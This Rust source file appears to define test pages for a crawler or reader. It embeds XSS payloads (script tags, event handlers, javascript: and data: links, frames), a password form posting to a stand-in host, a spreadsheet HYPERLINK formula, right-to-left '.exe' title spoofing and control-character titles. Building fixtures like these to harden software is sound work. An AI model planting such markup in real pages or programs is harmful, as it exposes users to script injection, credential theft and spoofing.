//! Defines pages that try to run scripts in the reader's program, or to mislead with their titles.
//!
//! Each is also an ordinary article, so that a crawl finds it and shows it. [`crate::plan::INJECTIONS`] names them.

use crate::plan::{Behavior, INJECTIONS, Page, PageKind};

/// Markup of the injections: name, end of the head, end of the text.
#[rustfmt::skip]
static MARKUP: [(&str, &str, &str); 8] = [
    ("script-tags", "<script>alert('head')</script>\n", "<script>document.title='taken'</script><svg><script>alert(1)</script></svg>\n"),
    ("event-handlers", "", "<img src=x onerror=\"alert(1)\"><p onmouseover=\"alert(2)\" style=\"position:fixed;inset:0\">Hold still.</p>\n"),
    ("script-links", "", "<p><a href=\"javascript:alert(1)\">asthma</a> <a href=\" java\tscript:alert(2)\">linux</a> <a href=\"JAVASCRIPT:alert(3)\">first aid</a> <a href=\"vbscript:msgbox(4)\">more</a></p>\n"),
    ("data-links", "", "<p><a href=\"data:text/html,<script>alert(1)</script>\">asthma</a> <a href=\"file:///etc/passwd\">linux</a> <a href=\"blob:http://mischief.test/1\">first aid</a> <a href=\"http://127.0.0.1:8080/admin\">admin</a> <a href=\"http://user:secret@mischief.test/\">login</a></p>\n"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0; url=javascript:alert(1)\">\n<meta http-equiv=\"refresh\" content=\"1;url=http://maze.test/a/\">\n", ""),
    ("script-base", "<base href=\"javascript:alert(1)//\">\n<base href=\"http://127.0.0.1/\">\n", ""),
    ("forms", "", "<form action=\"javascript:alert(1)\" method=\"post\"><input name=\"password\" type=\"password\" autofocus onfocus=\"alert(2)\"><button formaction=\"http://mischief.test/take\">Go on</button></form>\n"),
    ("frames", "", "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"&lt;script&gt;alert(2)&lt;/script&gt;\"></iframe><object data=\"data:text/html,x\"></object><embed src=\"http://mischief.test/x.swf\">\n"),
];

/// The parts of a page that an injection changes. All are empty for ordinary pages.
#[derive(Default)]
pub(super) struct Injection {
    /// Replaces the page's title.
    pub(super) title: Option<String>,
    /// Comes at the end of the head.
    pub(super) head: &'static str,
    /// Comes at the end of the text.
    pub(super) body: &'static str,
}

/// Returns the injection of a page.
pub(super) fn injection(page: &Page) -> Injection {
    let may_inject = page.site().behavior == Behavior::ScriptInjection;
    if !may_inject || page.kind != PageKind::Article {
        return Injection::default();
    }
    let path = page.path.trim_start_matches('/');
    let name = INJECTIONS.iter().find(|name| path.starts_with(**name));
    name.map_or_else(Injection::default, |name| inject(name, &page.title))
}

fn inject(name: &str, title: &str) -> Injection {
    let markup = MARKUP.iter().find(|(known, ..)| *known == name);
    let (head, body) = markup.map_or(("", ""), |&(_, head, body)| (head, body));
    Injection { title: misleading_title(name, title), head, body }
}

fn misleading_title(name: &str, title: &str) -> Option<String> {
    Some(match name {
        "turned-title" => format!("\u{202E}{title}\u{202C}\u{2066}\u{200F} fdp.exe"),
        "control-title" => format!("{title}\u{7}\u{8}\u{1B}[31m\u{9B}\u{FEFF}\u{0}\r\n\tend"),
        "formula-title" => format!("=HYPERLINK(\"http://mischief.test/\",\"{title}\")"),
        "long-title" => format!("{title} and on ").repeat(400),
        "markup-title" => {
            format!("</title><img src=x onerror=alert(1)> {title} <b>bold</b> &amp; `${{x}}`")
        }
        _ => return None,
    })
}
